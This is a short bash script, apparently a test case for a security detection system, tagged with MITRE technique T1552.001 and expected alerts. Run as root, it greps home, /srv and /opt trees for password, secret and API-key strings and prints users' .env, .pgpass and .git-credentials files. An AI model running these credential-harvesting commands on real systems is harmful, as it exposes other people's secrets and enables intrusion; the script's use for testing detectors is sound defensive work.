#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552.001 Unsecured Credentials: Credentials In Files
# behaviour: searches home directories and application trees for passwords and API keys in config and .env files
# as: root
# expect: credential_access, mass_read
set -u
grep -rIlE 'password|passwd|secret|api[_-]?key|token' /home /srv /opt 2>/dev/null | head -50
cat /home/*/projects/*/.env 2>/dev/null || true
cat /home/*/.pgpass /home/*/.git-credentials 2>/dev/null || true
